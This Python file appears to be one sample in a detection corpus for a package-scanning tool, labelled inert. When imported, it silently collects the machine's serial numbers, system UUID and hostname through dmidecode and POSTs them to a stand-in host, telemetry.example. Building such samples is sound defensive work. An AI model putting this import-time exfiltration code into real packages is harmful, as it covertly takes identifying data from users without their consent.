# pkgguard corpus 847 (system-information), modelled on [checkmarx-2024]; inert, never run.
import http.client
import json
import socket
import subprocess


def _dmi(key):
    try:
        return subprocess.run(["dmidecode", "-s", key], capture_output=True, text=True, timeout=5).stdout.strip()
    except (OSError, subprocess.SubprocessError):
        return ""


payload = json.dumps(
    {
        "serial": _dmi("system-serial-number"),
        "uuid": _dmi("system-uuid"),
        "board": _dmi("baseboard-serial-number"),
        "host": socket.gethostname(),
    }
)
try:
    conn = http.client.HTTPSConnection("telemetry.example", timeout=5)
    conn.request("POST", "/v2/hw", body=payload, headers={"Content-Type": "application/json"})
except OSError:
    pass
